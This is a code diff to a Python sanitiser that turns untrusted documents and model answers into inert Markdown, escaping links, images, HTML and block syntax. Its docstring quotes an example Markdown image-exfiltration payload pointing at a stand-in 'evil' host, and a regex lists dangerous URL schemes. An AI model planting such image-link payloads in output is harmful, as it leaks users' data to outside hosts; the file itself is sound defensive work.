@@ -1,8 +1,15 @@
-"""Turn untrusted text (documents, model answers) into inert Markdown for the UI.
+"""Turn untrusted text (documents, model answers, file names) into inert Markdown for the UI.
 
 Documents and answers may contain HTML, `javascript:` links or Markdown images pointing at outside URLs (a known
-data-exfiltration trick: the browser fetches the image URL with data in it). Everything is shown as text: HTML is
-escaped, and Markdown links and images are defused so nothing is fetched or clickable.
+data-exfiltration trick: the browser fetches the image URL with data in it). Everything is shown as text, by
+escaping rather than by a list of known attacks, because Markdown has many link forms (inline, reference-style
+`![a][1]` + `[1]: //evil/leak?d=...`, `<angle>` autolinks, GFM's bare `www.` / `https://` / e-mail autolinks, raw
+HTML):
+  - every `[`, `]`, backtick, backslash, `*`, `_` and `~` is backslash-escaped and `& < >` are HTML-escaped, so no link, image,
+    reference definition, code span or HTML tag can start in the text;
+  - every word that a GFM autolinker could turn into a link (contains `://`, `www.`, a URL scheme or an e-mail
+    address) is shown as inline code, which is never linked;
+  - block syntax at the start of a line (headings, lists, rules, tables, setext underlines) is escaped.
 """
 
 from __future__ import annotations
@@ -10,29 +17,47 @@ from __future__ import annotations
 import html
 import re
 
-_MD_IMAGE_OR_LINK = re.compile(r"!?\[([^\]]*)\]\(([^)]*)\)")
-_AUTOLINK = re.compile(r"<(?:https?|javascript|data|file|ftp):[^>]*>", re.IGNORECASE)
-
-
-# Markdown block syntax at the start of a line: headings, quotes, lists, rules, tables, fences, setext underlines.
-# (">" needs nothing: html.escape turns it into "&gt;", which Markdown does not read as a quote.)
-_BLOCK_START = re.compile(r"^(\s*)(?:([#*+\-=|`~_])|(\d+)([.)]))", re.MULTILINE)
+# Words a Markdown renderer with GFM autolinks could make clickable or fetchable.
+_LINKABLE = re.compile(
+    r"://|www\.|(?:javascript|vbscript|data|file|mailto|xmpp|tel|ftp|https?):|[\w.+-]@[\w-]+\.\w",
+    re.IGNORECASE,
+)
+_ESCAPE = re.compile(r"([\\`\[\]*_~])")  # also emphasis: what shows is what was written
+_BLOCK_MARK = re.compile(r"^(?:[#*+\-=|~_]|(\d+)([.)]))")
+_TOKENS = re.compile(r"(\s+)")
+_INDENT = re.compile(r"^[ \t]+", re.MULTILINE)
 
 
 def inert_markdown(text: str) -> str:
-    """Escape HTML and defuse Markdown links/images and block syntax, keeping the visible words."""
-    text = _BLOCK_START.sub(_escape_block, text)
-    text = _AUTOLINK.sub(lambda m: m.group(0)[1:-1], text)
-    text = _MD_IMAGE_OR_LINK.sub(lambda m: f"{m.group(1)} ({m.group(2)})", text)
-    text = html.escape(text, quote=False)
-    # Bare URLs are shown as code so Markdown does not turn them into links.
-    return re.sub(r"\b((?:https?|javascript|data|file|ftp):[^\s)]+)", r"`\1`", text, flags=re.IGNORECASE)
+    """Markdown that renders as exactly the visible words of `text`: no HTML, links, images or blocks."""
+    out: list[str] = []
+    line_start = True
+    # Leading indentation would make an indented code block, where the escapes below would show.
+    for token in _TOKENS.split(_INDENT.sub("", text)):
+        if not token:
+            continue
+        if token.isspace():
+            out.append(token)
+            line_start = line_start or "\n" in token
+            continue
+        out.append(_code_span(token) if _LINKABLE.search(token) else _plain(token, line_start))
+        line_start = False
+    return "".join(out)
 
 
-def _escape_block(m: re.Match[str]) -> str:
-    if m.group(2):
-        return f"{m.group(1)}\\{m.group(2)}"
-    return f"{m.group(1)}{m.group(3)}\\{m.group(4)}"  # "1." -> "1\." : no ordered list
+def _plain(word: str, line_start: bool) -> str:
+    word = html.escape(_ESCAPE.sub(r"\\\1", word), quote=False)
+    if line_start:  # "# h", "- item", "1. item", "---", "|a|": text, not blocks
+        word = _BLOCK_MARK.sub(
+            lambda m: f"{m.group(1)}\\{m.group(2)}" if m.group(1) else f"\\{m.group(0)}", word
+        )
+    return word
+
+
+def _code_span(word: str) -> str:
+    """`word` as inline code; the fence is longer than any backtick run inside, as CommonMark allows."""
+    fence = "`" * (max((len(run) for run in re.findall(r"`+", word)), default=0) + 1)
+    return f"{fence} {word} {fence}"
 
 
 def snippet(text: str, limit: int = 300) -> str:
